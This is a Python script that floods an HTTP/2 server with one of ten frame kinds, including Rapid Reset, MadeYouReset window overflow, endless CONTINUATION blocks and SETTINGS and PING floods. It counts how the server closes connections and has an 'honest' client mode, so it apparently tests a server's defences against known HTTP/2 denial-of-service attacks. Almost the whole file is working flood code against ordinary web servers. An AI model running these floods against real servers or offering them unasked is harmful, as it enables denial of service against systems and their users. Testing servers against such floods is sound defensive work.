"""Floods an HTTP/2 server with one kind of frame, connection after connection, and counts how the server ends them.

Usage: attack.py HOST PORT SECONDS KIND [tls]. Prints one line of JSON. With `tls`, the certificate is not checked.

The handshake and the honest client use h2; the frames of a flood are hyperframe's, because h2 sends no invalid ones.
"""

import json
import socket
import ssl
import sys
import time

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from h2.events import ConnectionTerminated, RemoteSettingsChanged
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

# Frames of a flood that are sent in one write.
BATCH = 100
HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":authority", "flood.test"),
    (":path", "/slow"),
]
BLOCK = Encoder().encode(HEADERS)


def request(stream, *flags):
    return HeadersFrame(stream, BLOCK, flags=["END_HEADERS", *flags])


def rapid_reset(stream):
    cancel = RstStreamFrame(stream, error_code=ErrorCodes.CANCEL)
    return [request(stream, "END_STREAM"), cancel]


def overflow(stream):
    """A window that overflows makes the server reset the stream (MadeYouReset)."""
    window = WindowUpdateFrame(stream, window_increment=2**31 - 1)
    return [request(stream, "END_STREAM"), window]


def zero_window(stream):
    # hyperframe does not send an increment of zero; the frame is encoded by hand.
    return [request(stream, "END_STREAM"), bytes([0, 0, 4, 8, 0]) + stream.to_bytes(4, "big") + bytes(4)]


def data_after_end(stream):
    return [request(stream, "END_STREAM"), DataFrame(stream, b"late")]


def refused(stream):
    """Streams above the limit are refused with a reset."""
    return [request(stream)]


def header_block(stream):
    """One header block that never ends."""
    start = [HeadersFrame(stream, BLOCK)] if stream == 1 else []
    return start + [ContinuationFrame(1, b"")]


def continuations(stream):
    """Header blocks that each have a few frames."""
    parts = [ContinuationFrame(stream, b"") for _ in range(3)]
    last = ContinuationFrame(stream, b"", flags=["END_HEADERS"])
    return [HeadersFrame(stream, BLOCK, flags=["END_STREAM"]), *parts, last]


def empty_data(stream):
    return ([request(1)] if stream == 1 else []) + [DataFrame(1, b"")]


def settings(_stream):
    return [SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65_535})]


def ping(_stream):
    return [PingFrame(0, b"flooding")]


KINDS = [
    rapid_reset,
    overflow,
    zero_window,
    data_after_end,
    refused,
    header_block,
    continuations,
    empty_data,
    settings,
    ping,
]


# Errors of a socket in non-blocking mode that has to wait.
WAITS = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)


def connect(address, tls):
    """Opens a connection, over TLS with ALPN if asked."""
    connection = socket.create_connection(address, timeout=10)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if not tls:
        return connection
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    connection = context.wrap_socket(connection)
    if connection.selected_alpn_protocol() != "h2":
        raise SystemExit(f"the server has chosen {connection.selected_alpn_protocol()} by ALPN")
    return connection


class Counts:
    def __init__(self):
        self.connections = self.frames = self.silent = 0
        # The connections that ended with a GOAWAY, by the name of its error.
        self.goaway = {}

    def ended(self, error):
        if error is None:
            self.silent += 1
        else:
            name = ErrorCodes(error).name
            self.goaway[name] = self.goaway.get(name, 0) + 1


class Peer:
    """A connection whose frames are counted."""

    def __init__(self, address, tls):
        self.socket = connect(address, tls)
        h2 = H2Connection(H2Configuration(client_side=True))
        h2.initiate_connection()
        self.socket.sendall(h2.data_to_send())
        events = []
        while not any(isinstance(event, RemoteSettingsChanged) for event in events):
            data = self.socket.recv(65_536)
            if not data:
                raise ConnectionError("the server has closed a new connection")
            events += h2.receive_data(data)
        self.socket.sendall(h2.data_to_send())
        self.socket.setblocking(False)
        self.received = b""
        self.error = None

    def send(self, data):
        """Sends all of the data, and reads meanwhile, so that the server is never blocked."""
        while data:
            try:
                data = data[self.socket.send(data) :]
            except WAITS:
                pass
            except ssl.SSLError as error:
                raise ConnectionError("the server has closed the connection") from error
            self.read()

    def read(self):
        """Reads what has arrived; raises ConnectionError at its end."""
        try:
            while data := self.socket.recv(1 << 20):
                self.received += data
        except WAITS:
            self.split()
            return
        except ssl.SSLError:
            pass
        raise ConnectionError("the server has closed the connection")

    def split(self):
        """Removes whole frames, and notes the error of a GOAWAY among them."""
        while len(self.received) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.received[:9]))
            if len(self.received) < 9 + length:
                break
            frame.parse_body(memoryview(self.received[9 : 9 + length]))
            if isinstance(frame, GoAwayFrame):
                self.error = frame.error_code
            self.received = self.received[9 + length :]

    def close(self):
        """Reads the rest, and returns the error of the GOAWAY that ended the connection, if there was one."""
        try:
            self.read()
        except ConnectionError:
            pass
        self.split()
        self.socket.close()
        return self.error


def encode(frames):
    return b"".join(frame if isinstance(frame, bytes) else frame.serialize() for frame in frames)


def attack(address, tls, kind, end, counts):
    """Sends one connection's flood, until the server ends it or the time is over."""
    peer = Peer(address, tls)
    counts.connections += 1
    stream = 1
    try:
        while time.monotonic() < end:
            frames = []
            while len(frames) < BATCH:
                frames += kind(stream)
                stream += 2
            peer.send(encode(frames))
            counts.frames += len(frames)
        peer.socket.close()
    except ConnectionError:
        counts.ended(peer.close())


def honest(address, end):
    """Cancels 1,000 requests a minute, and from time to time resets all 200 streams at once."""
    connection = socket.create_connection(address, timeout=10)
    h2 = H2Connection(H2Configuration(client_side=True))
    h2.initiate_connection()
    cancels = stormed = 0
    next_storm = time.monotonic() + 1
    while time.monotonic() < end:
        is_storm = time.monotonic() >= next_storm
        streams = [h2.get_next_available_stream_id() + 2 * i for i in range(200 if is_storm else 1)]
        for stream in streams:
            h2.send_headers(stream, HEADERS, end_stream=True)
        connection.sendall(h2.data_to_send())
        time.sleep(0.03)
        for stream in streams:
            h2.reset_stream(stream, ErrorCodes.CANCEL)
        connection.sendall(h2.data_to_send())
        cancels += len(streams)
        stormed += is_storm
        next_storm += 10 if is_storm else 0
        time.sleep(0.03)
        connection.setblocking(False)
        try:
            data = connection.recv(65_536)
            events = h2.receive_data(data)
            ends = [event for event in events if isinstance(event, ConnectionTerminated)]
            if ends or not data:
                raise SystemExit(f"the server ended an honest connection after {cancels} cancels: {ends}")
        except BlockingIOError:
            pass
        connection.settimeout(10)
        connection.sendall(h2.data_to_send())
    return {"cancels": cancels, "storms": stormed}


def main():
    host, port, seconds, name, *options = sys.argv[1:]
    address, end = (host, int(port)), time.monotonic() + float(seconds)
    if name == "honest":
        print(json.dumps(honest(address, end)))
        return
    kind = next(kind for kind in KINDS if kind.__name__ == name)
    counts = Counts()
    while time.monotonic() < end:
        attack(address, "tls" in options, kind, end, counts)
    print(json.dumps(vars(counts)))


main()
